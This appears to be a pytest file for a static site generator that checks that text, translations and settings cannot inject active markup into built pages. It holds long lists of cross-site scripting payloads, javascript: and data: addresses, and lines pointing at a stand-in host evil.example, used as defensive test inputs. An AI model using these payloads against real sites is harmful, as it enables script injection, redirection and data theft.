"""Whoever writes a text, a translation or a setting cannot make a page act: full builds, read element by element."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from sitegen.markdown.sanitise import TAGS
from tests.pages import Element, parse, record
from tests.support import SITE, SmallProject, picture

#: What is tried wherever text can be written: tags, handlers, ends of what is around, in all disguises.
MARKUP = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script src=https://evil.example/x.js></script>",
    "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)//",
    "</title><script>alert(1)</script>",
    "</TITLE ><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</h1></main></body><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus=alert(1) x="',
    "` onmouseover=alert(1) `",
    "<img src=x onerror=alert(1)>",
    "<img src=x oNeRrOr=alert(1)>",
    '<img/src="x"/onerror=alert(1)>',
    "<img src=x onerror\n=alert(1)>",
    "<img src='x' onerror=\"alert(1)\">",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)>x</a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="position:fixed;inset:0">x</p>',
    "<div style=background:url(//evil.example)>x</div>",
    "<form action=https://evil.example><input name=q><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<html onclick=alert(1)>",
    "<table background=javascript:alert(1)><tr><td>x</table>",
    "<b onclick=alert(1)>x</b>",
    "<b\x0conclick=alert(1)>x</b>",
    "<a href=# onclick=alert(1)>x</a>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<plaintext>",
    "<!--><script>alert(1)</script>-->",
    "<!--!><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<![CDATA[ > <script>alert(1)</script> ]]>",
    "<?xml > <script>alert(1)</script> ?>",
    "<!doctype html><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "\\u003cscript\\u003ealert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "{{ 7 * 7 }}{% include 'x' %}",
    "{n.__class__}{0}%(name)s%50",
    "<span title='<table onclick=alert(1)>'>x</span>",
    "<a title='</table><script>alert(1)</script>'>x</a>",
]
#: What is tried wherever an address can be written.
ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript:alert(1)//https://example.org",
    "javascript://example.org/%0aalert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript&#58;alert(1)",
    "javascript&colon;alert(1)",
    "java&#9;script:alert(1)",
    "java&#10;script:alert(1)",
    "java&Tab;script:alert(1)",
    "&#1;javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "file:///etc/passwd",
    "blob:https://example.org/x",
    "filesystem:https://example.org/x",
    "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)",
    "jar:https://evil.example!/x",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "/\\evil.example",
    "https:evil.example",
    "https://example.org@evil.example/",
    "https://user:password@example.org/",
    "https://[::1",
    "/admin",
]
#: How an address is written in Markdown; each shows it as a link or a picture.
FORMS = [
    "[x]({})",
    '[x]({} "title")',
    "[x](<{}>)",
    "[x][r]\n\n[r]: {}",
    "[x][r]\n\n[r]: <{}>",
    '<a href="{}">x</a>',
    "<A HREF='{}'>x</A>",
    '<div>\n<a href="{}">x</a>\n</div>',
    "![x]({})",
    "Words ![x]({}) words",
    "![x][r] words\n\n[r]: {}",
    '<img alt="x" src="{}">',
    "Words[^1]\n\n[^1]: [x]({})",
    "| a |\n|---|\n| [x]({}) |",
]

_PAGE = "html head meta title link script body nav main h1 h2 p a ul li figure figcaption img span bdi div"
#: All that pages of the small theme are made of, and what the sanitiser lets texts add.
TAGS_OF_PAGES = frozenset(_PAGE.split()) | TAGS
_ATTRIBUTES = """
    alt aria-current aria-label charset class colspan content datetime dir height href hreflang id lang loading name
    property rel reversed role rowspan scope src start tabindex title type width
"""
ATTRIBUTES_OF_PAGES = frozenset(_ATTRIBUTES.split())

#: A story with all that front matter can say.
STORY_TEMPLATE = """\
{% extends "base.html" %}
{% block main %}
<h1>{{ content.title }}</h1>
<p>{{ content.summary }}</p>
{% if content.place %}
<p>{{ content.place.name }}</p>
{% endif %}
{% if content.cover %}
<img src="{{ content.cover.picture.src }}" alt="{{ content.cover.picture.alt.plain }}">
<p>{{ content.cover.credit }}</p>
{% endif %}
{{ body }}
{% for credit in content.credits %}
<p>{{ credit.name }}</p>
{% endfor %}
{% for source in content.sources %}
<p><a href="{{ source.url }}">{{ source.title }}</a></p>
<p>{{ source.publisher }}</p>
{% endfor %}
{% set cards = content.related %}
{% include "parts/cards.html" %}
{% endblock %}
"""
#: Several payloads in one text, where they cannot get in each other's way.
FOURS = [" ".join(MARKUP[start : start + 4]) for start in range(0, len(MARKUP), 4)]


COVER = picture()


def yaml(text: str) -> str:
    """Return a text as YAML writes it between quotes."""
    return "'" + text.replace("'", "''").replace("\n", " ").replace("\x0c", " ") + "'"


def po(messages: dict[tuple[str, str], str], tag: str = "fr") -> str:
    """Return a catalog with translations by context and text."""

    def quoted(text: str) -> str:
        return '"' + text.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n").replace("\x0c", "\\f") + '"'

    entries = "".join(
        f"\n{f'msgctxt {quoted(context)}' + chr(10) if context else ''}msgid {quoted(id)}\nmsgstr {quoted(said)}\n"
        for (context, id), said in messages.items()
    )
    return f'msgid ""\nmsgstr ""\n"Content-Type: text/plain; charset=UTF-8\\n"\n"Language: {tag}\\n"\n{entries}'


def story(body: str, name: int | str, head: str = "", title: str = "Story") -> dict[str, str | bytes]:
    """Return the files of a story."""
    text = f"---\ntitle: {title}\ndate: 2026-01-02\n{head}---\n{body}\n"
    return {f"content/stories/s{name}/index.md": text, f"content/stories/s{name}/cover.jpg": COVER}


def site(languages: str) -> dict[str, str | bytes]:
    """Return the settings of a site in some languages."""
    return {"content/site.yaml": SITE.replace("[en, fr, ur]", languages)}


RELATIONS_OF_PAGES = {"canonical", "alternate", "stylesheet", "prev", "next"}


def harmless(project: SmallProject) -> list[Element]:
    """Return all built pages after a look at every element and attribute of theirs."""
    pages = []
    for path in sorted((project.root / "public").glob("[!.]*/**/*.html")):
        root = parse(path.read_text("utf-8"))
        for element in root.walk():
            where = f"{path.name}: <{element.tag} {dict(element.attributes)}>"
            assert element.tag in TAGS_OF_PAGES, where
            assert ATTRIBUTES_OF_PAGES.issuperset(element.attributes), where
            assert element.tag != "meta" or {"charset", "name", "property"} & set(element.attributes), where
            assert element.tag != "script" or record(element) is not None, where
            assert element.tag != "link" or element.attributes["rel"] in RELATIONS_OF_PAGES, where
            for name in ("href", "src"):
                assert_safe(element.attributes.get(name, ""), where)
        pages.append(root)
    assert pages
    return pages


def assert_safe(address: str, where: str) -> None:
    """Look at an address as browsers do, which drop blanks and controls and take a backslash for a slash."""
    seen = re.sub(r"[\x00-\x20]", "", address).replace("\\", "/").lower()
    scheme = re.match(r"([a-z][a-z0-9+.-]*):", seen)
    assert scheme is None or scheme[1] in ("http", "https", "mailto", "tel"), where
    assert not seen.startswith("//"), where
    assert "evil.example" not in re.sub(r"[?#].*", "", seen), where
    assert not re.match(r"https?:/*[^/]*@", seen), where


def texts(pages: list[Element], tag: str) -> set[str]:
    """Return the texts of all elements of a tag."""
    return {element.text for page in pages for element in page.find(tag)}


#: What a text with a payload in it may be refused for; nothing else may stand in its way.
REFUSED = {"address-refused", "missing-alt", "missing-picture", "missing-story"}


def is_phrase(text: str) -> bool:
    """Tell whether a text may stand for a phrase: it has no placeholders and no control characters."""
    return not re.search(r"\{[^{}\s]*\}|\x0c|&#1;", text)


def attributes(pages: list[Element], tag: str, name: str) -> set[str]:
    """Return the values of an attribute of all elements of a tag."""
    return {squeezed(element.attributes.get(name, "")) for page in pages for element in page.find(tag)}


def squeezed(text: str) -> str:
    """Return a text with its white space as a reader sees it."""
    return " ".join(text.split())


def build(project: SmallProject) -> list[str]:
    """Build a project; texts with errors are taken out, and their errors returned."""
    refused: list[str] = []
    for _ in range(2):
        built = project.build()
        if built.published:
            return refused
        errors = [fault for fault in built.found if fault.severity.value == "error"]
        refused += [f"{fault.span.path} {fault.code}" for fault in errors]
        for path in {fault.span.path for fault in errors}:
            project.remove(path)
    raise AssertionError(project.messages(built))


# Writers ------------------------------------------------------------------------------------------------

POSITIONS = """\
{0}

Words {0} words *{0}* [{0}](https://example.org/a "{0}") {0}

## Heading {0}

- Item {0}
    - {0}

> Quote {0}

| Head {0} | b |
|----------|---|
| {0} | c |

Term {0}
:   {0}

!!! facts "Box {0}"
    {0}

`{0}`

[r {0}][key]

Word[^1]

[^1]: Note {0}

[key]: https://example.org/b "{0}"
"""


def test_markup_in_the_text_of_stories_does_nothing(tmp_path: Path) -> None:
    files = site("[en]")
    for number, payload in enumerate(text.replace("\x0c", " ") for text in MARKUP):
        files |= story(POSITIONS.replace("{0}", payload), number)
        files |= story(f"{payload}\n\nWords\n\n<div>\n{payload}\n</div>\n\nWords", f"{number}b")
    project = SmallProject(tmp_path, files)

    refused = build(project)

    assert {line.split()[1] for line in refused} <= REFUSED
    harmless(project)


def test_markup_in_front_matter_arrives_as_text(tmp_path: Path) -> None:
    files = site("[en, ur]") | {"themes/plain/templates/story.html": STORY_TEMPLATE}
    for number, text in enumerate(map(yaml, FOURS)):
        head = (
            f"summary: {text}\nplace: {{name: {text}}}\ncover: {{file: cover.jpg, alt: {text}, credit: {text}}}\n"
            f"credits: [{{role: writer, name: {text}}}]\n"
            f"sources: [{{title: {text}, publisher: {text}, url: 'https://example.org/a?b=\"><script>'}}]\n"
        )
        files |= story("Words.", number, head, title=text)
    project = SmallProject(tmp_path, files)

    assert build(project) == []

    pages = harmless(project)
    written = {squeezed(payload) for payload in FOURS}
    assert written <= texts(pages, "h1")
    assert written <= texts(pages, "title")
    assert written <= texts(pages, "p")
    assert written <= texts(pages, "a")
    assert written <= attributes(pages, "img", "alt")
    assert written <= attributes(pages, "meta", "content")
    assert 'https://example.org/a?b="><script>' in attributes(pages, "a", "href")


@pytest.mark.parametrize("form", FORMS)
def test_an_address_that_acts_is_refused_in_every_form(form: str, tmp_path: Path) -> None:
    files = site("[en]") | story("Words.", "ound")
    for number, address in enumerate(ADDRESSES):
        files |= story(form.format(address), number)
    project = SmallProject(tmp_path, files)

    refused = build(project)

    assert {line.split()[1] for line in refused} <= REFUSED
    harmless(project)


@pytest.mark.parametrize("address", ADDRESSES)
def test_an_address_that_acts_is_an_error_with_its_place(address: str, tmp_path: Path) -> None:
    project = SmallProject(tmp_path, site("[en]") | story(f'Words.\n\n<a href="{address}">x</a>', 1))

    built = project.build()

    assert not built.published
    assert [(str(fault.span), fault.code) for fault in built.found] == [
        ("content/stories/s1/index.md:7", "address-refused")
    ]


@pytest.mark.parametrize(
    "given",
    [
        "{: onclick=alert(1) }",
        '{: onclick="alert(1)" .x }',
        "{: style=position:fixed }",
        "{: href=javascript:alert(1) }",
        "{: srcset=x src=https://evil.example/x }",
        "{: formaction=javascript:alert(1) }",
        '{: class="x" onmouseover=alert(1) }',
        '{#x"onclick="alert(1)}',
        "{#x'><script>alert(1)</script>}",
        '{."><script>alert(1)</script>}',
    ],
)
def test_an_attribute_list_sets_nothing_that_acts(given: str, tmp_path: Path) -> None:
    blocks = (
        f"# One {given}\n\nTwo\n{given}\n\n- three\n{given}\n\n"
        f"| four {given} | five |\n|---|---|\n| six | seven {given} |\n\n"
        f"![eight](cover.jpg){given}\n\nNine {given}\n:   ten\n"
    )
    files = site("[en]") | story("Words.", "ound") | story(blocks, "-blocks")
    for number, inline in enumerate(["*a*", "[a](https://example.org)", "`a`", "a ![b](cover.jpg)", "a[^1]"]):
        files |= story(f"{inline}{given} c\n\n[^1]: note", number)
    project = SmallProject(tmp_path, files)

    refused = build(project)

    assert {line.split()[1] for line in refused} <= REFUSED
    harmless(project)


def test_the_name_of_the_language_of_code_is_only_a_name(tmp_path: Path) -> None:
    names = ["js onload=alert(1)", '"><script>', "{onclick=alert(1)}", '{.a onclick="alert(1)" #b}', '{."><script>}']
    files = site("[en]")
    for number, name in enumerate(names):
        files |= story(f"```{name}\n</code></pre><script>alert(1)</script>\n```", number)
    project = SmallProject(tmp_path, files)

    build(project)

    assert "</code></pre><script>alert(1)</script>" in " ".join(texts(harmless(project), "main"))


# Translators --------------------------------------------------------------------------------------------

TRANSLATED = """\
Paragraph {0}

## Heading {0}

- Item {0}

| Head {0} | 1 |
|----------|---|
| Cell {0} | 1 |

!!! facts "Box {0}"
    Inside {0}

![Alt {0}](cover.jpg "Caption {0}")

Link {0} [words](https://example.org/a) `code`[^{0}]

[^{0}]: Note {0}
"""
PROSE = ["Paragraph {0}", "Heading {0}", "Item {0}", "Head {0}", "Cell {0}", "Box {0}", "Inside {0}", "Note {0}"]
HEAD = """\
summary: Summary
place: {name: Place}
cover: {file: cover.jpg, alt: Cover, credit: Credit}
credits: [{role: writer, name: Name}]
sources: [{title: Source, publisher: Publisher, url: "https://example.org/"}]
"""
PHRASES = [
    ("", "Story"),
    ("", "Summary"),
    ("place.name", "Place"),
    ("cover.alt", "Cover"),
    ("credit", "Credit"),
    ("credit", "Name"),
    ("source", "Source"),
    ("publisher", "Publisher"),
]


def test_markup_in_the_translation_of_a_text_does_nothing(tmp_path: Path) -> None:
    payloads = [*MARKUP, *(form.format(address) for form in FORMS[:3] for address in ADDRESSES)]
    said: dict[tuple[str, str], str] = {}
    for number, payload in enumerate(payloads):
        said |= {("", id.format(number)): f"{payload} {id} {payload}" for id in PROSE}
        said[("", f"Link {number} [words](https://example.org/a) `code`[^{number}]")] = (
            f"{payload} [x](https://example.org/a) `code`[^{number}]"
        )
        said |= {("", f"{word} {number}"): payload for word in ("Alt", "Caption")}
    body = "\n".join(TRANSLATED.format(number) for number in range(len(payloads)))
    files = site("[en, fr]") | story(body, 1) | {"locales/fr/LC_MESSAGES/stories/s1.po": po(said)}
    project = SmallProject(tmp_path, files)

    assert build(project) == []

    pages = harmless(project)
    assert {squeezed(payload) for payload in MARKUP if is_phrase(payload)} <= attributes(pages, "img", "alt")


def test_a_translated_phrase_arrives_as_text(tmp_path: Path) -> None:
    payloads = [payload for payload in FOURS if is_phrase(payload)]
    files = site("[en, fr]") | {"themes/plain/templates/story.html": STORY_TEMPLATE}
    for number, payload in enumerate(payloads):
        files |= story("Words.", number, HEAD)
        files[f"locales/fr/LC_MESSAGES/stories/s{number}.po"] = po(dict.fromkeys(PHRASES, payload))
    project = SmallProject(tmp_path, files)

    assert build(project) == []

    pages = harmless(project)
    written = {squeezed(payload) for payload in payloads}
    assert written <= texts(pages, "h1")
    assert written <= texts(pages, "title")
    assert written <= texts(pages, "p")
    assert written <= texts(pages, "a")
    assert written <= attributes(pages, "img", "alt")
    assert written <= attributes(pages, "meta", "content")


@pytest.mark.parametrize("start", range(0, len(FOURS), 5))
def test_markup_in_the_words_of_theme_and_sites_arrives_as_text(start: int, tmp_path: Path) -> None:
    payload = " ".join(text for text in FOURS[start : start + 5] if is_phrase(text))
    files = site("[en, fr]") | story("| a |\n|---|\n| b |\n\nWords.[^1]\n\n[^1]: Note.", 1)
    placeholders = {"{n} story": "{n}", "Back to where footnote {number} stands in the text": "{number}"}
    words = ["Table", "Stories", "Page not found", "Draft"]
    files["locales/fr/LC_MESSAGES/theme.po"] = po(
        {("", id): payload for id in words} | {("", id): f"{payload}{name}" for id, name in placeholders.items()}
    )
    names = {"name": "Tales", "tagline": "Short ones", "topics.hills": "Hills", "regions.north": "North"}
    names |= {
        "missions.paris.greeting": "Welcome",
        "missions.paris.name": "Paris tales",
        "missions.paris.city": "Paris",
    }
    files["locales/fr/LC_MESSAGES/site.po"] = po(dict.fromkeys(names.items(), payload))
    files["locales/fr/LC_MESSAGES/missions/paris.po"] = po({("", "Words.[^1]"): payload, ("", "Story"): payload})
    files["content/missions/paris.yaml"] = (
        "name: Paris tales\ncity: Paris\ngreeting: Welcome\nlanguages: [fr, en]\nbase_url: https://paris.example.org/\n"
    )
    project = SmallProject(tmp_path, files)

    assert build(project) == []

    pages = harmless(project)
    assert squeezed(payload) in texts(pages, "a")
    labels = {label for tag in ("div", "a") for label in attributes(pages, tag, "aria-label")}
    assert {squeezed(payload), squeezed(payload + "1")} <= labels


# Whoever configures a site or a mission -----------------------------------------------------------------


@pytest.mark.parametrize("start", range(0, len(MARKUP), 20))
def test_markup_in_the_settings_of_sites_and_missions_arrives_as_text(start: int, tmp_path: Path) -> None:
    payloads = [squeezed(text.replace("\x0c", " ")) for text in MARKUP[start : start + 20]]
    text = yaml(" ".join(payloads))
    topics = ", ".join(f"t{number}: {yaml(payload)}" for number, payload in enumerate(payloads))
    keys = ", ".join(f"t{number}" for number in range(len(payloads)))
    files = story("Words.", 1, f"topics: [{keys}]\nregion: north\n")
    files["content/site.yaml"] = (
        f"name: {text}\ntagline: {text}\nbase_url: https://tales.example.org/\nlanguages: [en, fr]\ntheme: plain\n"
        f"topics: {{{topics}}}\nregions: {{north: {{name: {text}, introduction: {text}}}}}\nnavigation: [stories]\n"
    )
    files["content/missions/paris.yaml"] = (
        f"name: {text}\ncity: {text}\ngreeting: {text}\ncontact: {{label: {text}, email: desk@example.org}}\n"
        "languages: [fr, en]\nbase_url: https://paris.example.org/\n"
    )
    project = SmallProject(tmp_path, files)

    assert build(project) == []

    pages = harmless(project)
    assert " ".join(payloads) in texts(pages, "h1")
    assert " ".join(payloads) in texts(pages, "p")
    assert {*payloads, " ".join(payloads)} <= texts(pages, "a")


def test_there_are_enough_of_them() -> None:
    assert len(MARKUP) >= 60
    assert len(ADDRESSES) * len(FORMS) >= 60
